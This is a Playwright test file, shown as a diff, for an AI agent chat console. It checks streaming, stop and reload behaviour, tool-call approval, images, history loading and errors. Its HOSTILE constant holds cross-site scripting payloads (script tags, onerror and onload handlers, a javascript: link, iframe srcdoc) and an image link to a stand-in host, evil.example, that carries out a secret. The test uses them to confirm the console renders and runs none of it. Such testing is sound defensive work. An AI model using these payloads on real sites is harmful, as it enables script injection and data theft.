@@ -1,0 +1,220 @@
+"""Talking with an agent in the console: streams, what breaks them, decisions, memory."""
+
+import base64
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from letta_client import Letta
+from playwright.sync_api import Locator, Page, expect
+
+from letta.testing.scripted_model import Call, Failure, Reply, ScriptedModel
+
+pytestmark = [pytest.mark.slow, pytest.mark.browser]
+
+MODEL = "openai-proxy/gpt-4o-mini"
+HOSTILE = """<img src=x onerror="window.harmed = 1"><script>window.harmed = 1</script>
+[click](javascript:window.harmed=1) ![see](https://evil.example/?q=secret) <b>bold</b>
+<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>
+| <svg onload=window.harmed=1> | b |
+|---|---|
+| `</code><script>window.harmed=1</script>` | c |
+
+```html
+<script>window.harmed = 1</script>
+```"""
+PIXEL = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+)
+
+
+@pytest.fixture
+def make_agent(client: Letta) -> Callable[..., str]:
+    def make(**fields: Any) -> str:
+        blocks: Any = [{"label": "human", "value": "Name: Ada."}]
+        return str(client.agents.create(model=MODEL, memory_blocks=blocks, **fields).id)
+
+    return make
+
+
+def say(page: Page, text: str) -> None:
+    field = page.get_by_label("Message", exact=True)
+    field.fill(text)
+    field.press("Enter")
+
+
+def log(page: Page) -> Locator:
+    return page.get_by_role("log")
+
+
+def is_done(page: Page) -> None:
+    expect(page.get_by_role("button", name="Stop")).to_have_count(0)
+
+
+def test_an_answer_is_streamed_and_what_the_agent_changes_lights_up(
+    page: Page, model: ScriptedModel, make_agent: Callable[..., str]
+) -> None:
+    page.goto(f"/#/agents/{make_agent()}")
+    script = model.script(
+        Reply(
+            "One moment.",
+            reasoning="She likes tea.",
+            calls=[Call("memory_insert", {"label": "human", "new_string": "Likes tea."})],
+        ),
+        Reply("Noted. **Tea** it is, and nothing else", chunk_delay=0.3),
+    )
+    say(page, script.say("I like tea"))
+    expect(log(page)).to_contain_text("Noted.")
+    expect(page.get_by_role("button", name="Stop")).to_be_visible()
+    expect(log(page)).to_contain_text("Noted. Tea it is, and nothing else")
+    is_done(page)
+    expect(log(page).locator("strong", has_text="Tea")).to_be_visible()
+
+    reasoning = log(page).get_by_text("She likes tea.")
+    expect(reasoning).to_be_hidden()
+    log(page).get_by_text("Reasoning").click()
+    expect(reasoning).to_be_visible()
+    log(page).get_by_text("memory_insert").click()
+    expect(log(page).locator(".arguments")).to_contain_text("Likes tea.")
+
+    memory = page.get_by_role("complementary", name="Memory")
+    expect(memory.locator("mark")).to_contain_text("Likes tea.")
+    expect(memory).to_contain_text("just changed")
+
+
+def test_a_turn_is_read_on_after_a_reload_and_after_the_network_was_gone(
+    page: Page, model: ScriptedModel, make_agent: Callable[..., str]
+) -> None:
+    page.goto(f"/#/agents/{make_agent()}")
+    words = " ".join(f"word{number}" for number in range(30))
+    script = model.script(Reply(words, chunk_delay=0.1))
+    say(page, script.say("Tell me a story"))
+    expect(log(page)).to_contain_text("word3 ")
+    page.reload()
+    expect(log(page)).to_contain_text("word8 ")
+    page.context.set_offline(True)
+    page.context.set_offline(False)
+    expect(log(page)).to_contain_text("word29")
+    is_done(page)
+    expect(page.locator(".said.agent")).to_have_count(1)
+    expect(page.locator(".said.agent")).to_have_text(words)
+    expect(page.locator(".said.user")).to_have_count(1)
+
+
+def test_a_turn_can_be_stopped(page: Page, model: ScriptedModel, make_agent: Callable[..., str]) -> None:
+    page.goto(f"/#/agents/{make_agent()}")
+    script = model.script(Reply("a b c d e f g h i j k l m n o p q r s t u v w x y z", chunk_delay=0.4))
+    say(page, script.say("Go on and on"))
+    expect(log(page)).to_contain_text("a b")
+    page.get_by_role("button", name="Stop").click()
+    expect(log(page)).to_contain_text("Stopped.")
+    is_done(page)
+    after = model.script(Reply("Here again."))
+    say(page, after.say("Still there?"))
+    expect(log(page)).to_contain_text("Here again.")
+
+
+def test_calls_are_approved_and_denied_in_place(
+    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
+) -> None:
+    gated: Any = [{"type": "requires_approval", "tool_name": "memory_insert"}]
+    agent_id = make_agent(tool_rules=gated, tools=["memory_insert"], include_base_tool_rules=False)
+    page.goto(f"/#/agents/{agent_id}")
+    insert = Call("memory_insert", {"label": "human", "new_string": "Likes tea."})
+    script = model.script(
+        Reply(calls=[insert]),
+        Reply(calls=[Call("memory_insert", {"label": "human", "new_string": "Hates tea."})]),
+        Reply("As you wish."),
+    )
+    say(page, script.say("I like tea"))
+    expect(log(page)).to_contain_text("asks for leave")
+    expect(page.get_by_label("Message", exact=True)).to_be_disabled()
+    page.reload()
+    page.get_by_role("button", name="Approve").click()
+    page.get_by_role("button", name="Deny …").click()
+    page.get_by_placeholder("Why not?").fill("That is wrong.")
+    page.get_by_role("button", name="Deny", exact=True).click()
+    expect(log(page)).to_contain_text("As you wish.")
+    is_done(page)
+    assert client.agents.blocks.retrieve("human", agent_id=agent_id).value == "Name: Ada.\nLikes tea."
+    assert "That is wrong." in str(script.requests[-1].body)
+
+
+def test_nothing_that_a_model_writes_is_run_or_loaded(
+    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
+) -> None:
+    agent_id = make_agent(name="Hostile")
+    client.agents.blocks.update("human", agent_id=agent_id, value=HOSTILE)
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(f"/#/agents/{agent_id}")
+    call = Call("memory_insert", {"label": "human", "new_string": HOSTILE})
+    script = model.script(Reply(HOSTILE, reasoning=HOSTILE, calls=[call]), Reply(HOSTILE))
+    say(page, script.say(HOSTILE))
+    expect(page.locator(".said.agent")).to_have_count(2)
+    is_done(page)
+    for details in page.locator("details").all():
+        details.evaluate("element => { element.open = true; }")
+    expect(log(page)).to_contain_text("<b>bold</b>")
+    assert page.evaluate("window.harmed") is None
+    assert page.locator(".said script, .said iframe, .said img, .said b, .said svg:not(.icon)").count() == 0
+    assert page.locator("a[href^='javascript']").count() == 0
+    assert [url for url in asked if "evil" in url] == []
+
+
+def test_conversations_stand_side_by_side(page: Page, model: ScriptedModel, make_agent: Callable[..., str]) -> None:
+    page.goto(f"/#/agents/{make_agent()}")
+    page.get_by_role("button", name="Another conversation beside this one").click()
+    panes = page.get_by_role("region", name="Conversation")
+    expect(panes).to_have_count(2)
+    for place in (0, 1):
+        script = model.script(Reply(f"Answer {place}."))
+        field = panes.nth(place).get_by_label("Message", exact=True)
+        field.fill(script.say(f"Question {place}"))
+        field.press("Enter")
+    for place in (0, 1):
+        expect(panes.nth(place).get_by_role("log")).to_contain_text(f"Answer {place}.")
+    expect(panes.nth(0).get_by_role("log")).not_to_contain_text("Answer 1.")
+    page.reload()
+    expect(panes.nth(1).get_by_role("log")).to_contain_text("Question 1")
+
+
+def test_a_picture_is_sent_and_shown(page: Page, model: ScriptedModel, make_agent: Callable[..., str]) -> None:
+    page.goto(f"/#/agents/{make_agent()}")
+    script = model.script(Reply("A pixel."))
+    page.get_by_label("Add an image").set_input_files({"name": "pixel.png", "mimeType": "image/png", "buffer": PIXEL})
+    expect(page.get_by_role("img", name="pixel.png")).to_be_visible()
+    say(page, script.say("What is this?"))
+    expect(log(page)).to_contain_text("A pixel.")
+    is_done(page)
+    expect(page.locator(".said.user img")).to_be_visible()
+    assert "image_url" in str(script.requests[0].body)
+
+
+def test_history_is_loaded_as_one_scrolls(
+    page: Page, model: ScriptedModel, client: Letta, make_agent: Callable[..., str]
+) -> None:
+    agent_id = make_agent(
+        initial_message_sequence=[{"role": "user", "content": f"Old {number} " * 12} for number in range(95)]
+    )
+    page.goto(f"/#/agents/{agent_id}")
+    said = page.locator(".said.user")
+    expect(said.last).to_contain_text("Old 94")
+    assert said.count() < 60
+    for _ in range(12):
+        log(page).evaluate("element => { element.scrollTop = 0; }")
+        page.wait_for_timeout(100)
+        if said.count() >= 95:
+            break
+    expect(said).to_have_count(95)
+    expect(said.first).to_contain_text("Old 0 ")
+
+
+def test_a_failure_is_readable_and_what_was_typed_stays(
+    page: Page, model: ScriptedModel, make_agent: Callable[..., str]
+) -> None:
+    page.goto(f"/#/agents/{make_agent()}")
+    script = model.script(Reply(error=Failure("auth", times=9)))
+    say(page, script.say("Hello"))
+    expect(log(page).get_by_role("alert")).to_be_visible()
+    is_done(page)
